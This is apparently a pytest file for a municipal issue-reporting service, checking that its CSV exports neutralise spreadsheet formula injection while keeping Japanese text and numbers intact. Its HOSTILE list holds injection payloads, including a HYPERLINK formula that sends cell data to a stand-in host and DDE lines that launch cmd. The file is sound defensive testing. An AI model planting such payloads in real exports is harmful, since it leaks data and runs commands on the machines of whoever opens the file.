"""Every CSV the service writes is inert in a spreadsheet and still reads back with the csv module."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from service.api.csv_files import csv_text
from service.extensions import db
from service.models import Category, Jurisdiction, Report
from tests.staff.conftest import keys, submit

__all__ = ["keys"]

# Each would run as a formula in a spreadsheet that opens the file.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Japanese text with the characters CSV has to quote: commas, quotes and a line break.
PLAIN = '歩道に穴、「深さ10cm」,"危険"\n夜は見えません'
CREATED = datetime(2025, 6, 10, 1, 0, tzinfo=UTC)


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def reports_with(client, texts: list[str]) -> dict[str, str]:
    """One report per text; the text stands in the report's description and ward, as if it came from any source."""
    made = {}
    for text in texts:
        public_id = submit(client)
        report = db.session.scalar(select(Report).where(Report.public_id == public_id))
        report.description, report.ward, report.created_at = text, text, CREATED
        made[public_id] = text
    db.session.commit()
    return made


def test_staff_export_quotes_formulas_and_keeps_text_and_numbers(client, keys):
    made = reports_with(client, [*HOSTILE, PLAIN])

    rows = cells(client.get("/api/v1/staff/reports", query_string={"format": "csv"}, headers=keys.header("admin")))

    header, body = rows[0], rows[1:]
    assert len(body) == len(made)
    for row in body:
        record = dict(zip(header, row, strict=True))
        written = made[record["id"]]
        expected = written if written == PLAIN else "'" + written
        assert (record["description"], record["ward"]) == (expected, expected)
        assert float(record["lat"]) == pytest.approx(35.65) and float(record["lon"]) == pytest.approx(139.78)


def test_stats_csv_quotes_formulas_in_group_names(client, keys, fixed_clock):
    reports_with(client, HOSTILE)

    rows = cells(client.get("/api/v1/staff/stats", headers=keys.header("admin"),
                            query_string={"group_by": "ward", "from": "2025-06-01", "to": "2025-06-30", "format": "csv"}))

    header, body = rows[0], rows[1:]
    wards = sorted(dict(zip(header, row, strict=True))["ward"] for row in body)
    assert wards == sorted("'" + text for text in HOSTILE)
    assert all(dict(zip(header, row, strict=True))["received"] == "1" for row in body)


def test_open_data_csv_quotes_formulas_in_every_text_column(client, keys):
    made = reports_with(client, HOSTILE)
    category = db.session.scalar(select(Category).join(Jurisdiction).where(Category.code == "road_damage",
                                                                           Jurisdiction.code == "990019"))
    category.name_ja = "=cmd|' /C calc'!A0"
    db.session.commit()

    rows = cells(client.get("/api/v1/opendata/reports.csv", query_string={"bom": "true"}))

    header, body = rows[0], rows[1:]
    assert len(body) == len(made)
    for row in body:
        record = dict(zip(header, row, strict=True))
        assert record["区"] == "'" + made[record["ID"]]
        assert record["種別"] == "'=cmd|' /C calc'!A0"
        assert record["地方公共団体名"] == "みなと市" and float(record["緯度"]) == pytest.approx(35.65)


def test_numbers_stay_numbers_and_only_text_is_quoted():
    text = "".join(csv_text(["数値", "文字", "空"], [[-2, "-2", None], [-0.5, "全角の＝はそのまま", ""]]))

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["数値", "文字", "空"], ["-2", "'-2", ""], ["-0.5", "全角の＝はそのまま", ""]]
